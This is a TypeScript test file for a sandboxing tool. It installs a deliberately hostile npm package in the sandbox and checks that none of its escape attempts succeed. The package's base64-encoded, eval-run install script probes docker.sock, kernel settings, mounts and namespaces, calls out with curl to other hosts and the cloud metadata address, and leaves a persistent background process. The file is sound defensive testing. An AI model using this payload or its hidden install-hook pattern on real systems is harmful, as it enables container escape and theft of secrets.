import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { z } from 'zod';
import { IN_SANDBOX } from '../../../sidecar/wire.ts';
import { NameServer } from '../../egress-harness/name-server.ts';
import { Origin, type Site } from '../../egress-harness/origin.ts';
import { npmSite } from '../../egress-harness/package-sites.ts';
import { shellProject, writeProject } from '../../setup/profiles.ts';
import { TestHome } from '../../setup/test-home.ts';

const SOURCE = 'packages.hostile.test';
const OTHER = 'elsewhere.hostile.test';

/** What a package does whose installation is an attack: it tries everything and writes down what succeeded. */
const ATTACK = `
const { execSync } = require('node:child_process');
const fs = require('node:fs');
const done = {};
const attempt = (name, deed) => { try { done[name] = String(deed()).slice(0, 300); } catch { /* it failed, as it should */ } };
const shell = (command) => execSync(command, { stdio: ['ignore', 'pipe', 'pipe'], timeout: 20000 }).toString().trim();
const proxied = (url) => shell('curl -sS -f --max-time 5 ' + url);
attempt('engine', () => fs.statSync('/var/run/docker.sock').size);
attempt('workspace', () => fs.readdirSync('/workspace').join());
attempt('code', () => fs.readdirSync('/agent').join());
attempt('control', () => fs.readdirSync('/ctl').join());
attempt('run directory', () => fs.readdirSync('/run/holdfast').join());
attempt('our programs', () => { fs.writeFileSync('RUNTIME/runner.sh', 'exit 0'); return 'written'; });
attempt('mount', () => shell('mount -t tmpfs none /mnt && echo mounted'));
attempt('disk', () => shell('mknod /disk b 8 0 && echo made'));
attempt('namespace', () => shell('unshare -m echo entered'));
attempt('kernel settings', () => { fs.writeFileSync('/proc/sys/kernel/core_pattern', '|/x'); return 'written'; });
attempt('sidecar', () => fs.readdirSync('/proc').filter((id) => /^\\d+$/.test(id)).map((id) => fs.readFileSync('/proc/' + id + '/cmdline', 'latin1')).find((line) => line.includes('sidecar')).length);
attempt('network settings', () => shell('ip link add x type dummy && echo added'));
attempt('another host', () => proxied('http://OTHER/hello'));
attempt('the machine', () => proxied('http://127.0.0.1:PORT/hello'));
attempt('the machine by name', () => proxied('http://host.holdfast.internal:PORT/hello'));
attempt('another port of an allowed address', () => proxied('--noproxy "" --proxy http://127.0.0.1:3128 http://127.0.0.1:1/'));
attempt('metadata', () => proxied('http://169.254.169.254/'));
attempt('addresses', () => shell('ip -o addr').split('\\n').filter((line) => !/ lo /.test(line)).join());
// An empty folder, and no address, are nothing.
for (const name of Object.keys(done)) if (done[name] === '') delete done[name];
const status = fs.readFileSync('/proc/self/status', 'utf8');
fs.writeFileSync('/opt/attack.json', JSON.stringify({ done, uid: process.getuid(), capabilities: /CapEff:\\s*(\\w+)/.exec(status)[1] }));
// What is still running must not live on in the image, nor hold up its end.
shell('setsid sh -c "trap : TERM; while :; do echo alive > /opt/alive; sleep 0.2; done" > /dev/null 2>&1 &');
`;

const ReportSchema = z.object({
  done: z.record(z.string(), z.string()),
  uid: z.number(),
  capabilities: z.string(),
});
/** CHOWN, DAC_OVERRIDE, FOWNER, SETGID, SETUID. */
const ALLOWED_CAPABILITIES = (1n << 0n) | (1n << 1n) | (1n << 3n) | (1n << 6n) | (1n << 7n);

let names: NameServer;
let origin: Origin;
let home: TestHome;
beforeAll(async () => {
  names = await NameServer.start({ [SOURCE]: ['127.0.0.1'], [OTHER]: ['127.0.0.1'] });
  let site: Site = () => false;
  origin = await Origin.start({ sites: [(...received) => site(...received)] });
  // The attack names the port of the server that it comes from.
  const script = ATTACK.replaceAll('RUNTIME', IN_SANDBOX.runtime)
    .replaceAll('PORT', String(origin.port))
    .replaceAll('OTHER', `${OTHER}:${origin.port}`);
  const encoded = Buffer.from(script).toString('base64');
  site = await npmSite('hostile', '', `node -e "eval(Buffer.from('${encoded}','base64').toString())"`);
  home = await TestHome.create({ HOLDFAST_DNS: names.address });
});
afterAll(async () => {
  await home.dispose();
  await origin.dispose();
  await names.dispose();
});

test('a package that attacks while it is installed reaches nothing but its source', async () => {
  const victim = await writeProject(home.projects, shellProject('victim'));
  await home.runOk(['deploy', victim]);
  await home.runOk(['run', 'victim', 'echo private > f']);
  const project = await writeProject(
    home.projects,
    shellProject(
      'hostile',
      `persistence: persistent
env: { npm_config_registry: "http://${SOURCE}:${origin.port}/npm/" }
setup: { packages: { npm: [hostile] }, egress: [{ host: "${SOURCE}:${origin.port}" }, { host: "127.0.0.1:${origin.port}" }] }
`,
    ),
  );
  const deployed = await home.run(['deploy', project]);
  expect(deployed, await home.runOk(['setup', 'log', 'hostile'])).toMatchObject({ code: 0 });
  const { done, uid, capabilities } = ReportSchema.parse(
    JSON.parse(await home.runOk(['run', 'hostile', 'cat /opt/attack.json'])),
  );
  expect(uid).toBe(0);
  expect(BigInt(`0x${capabilities}`) & ~ALLOWED_CAPABILITIES).toBe(0n);
  expect(done).toEqual({});

  // In the session it is a file like others: nobody is root there, and nothing of it runs.
  const inSession =
    'id -u; touch /opt/x 2>/dev/null && echo written; rm -f /opt/alive 2>/dev/null; pgrep -f /opt/alive || echo none';
  expect(await home.runOk(['run', 'hostile', inSession])).toMatch(/^[1-9]\d*\nnone\n$/);
  expect(await home.runOk(['run', 'victim', 'cat f'])).toBe('private\n');
  // Nothing of the setup is left in the home.
  for (const folder of ['run', 'workspaces', 'homes']) {
    const left = await readdir(join(home.path, folder));
    expect(left.filter((name) => name.startsWith('setup-'))).toEqual([]);
  }
});
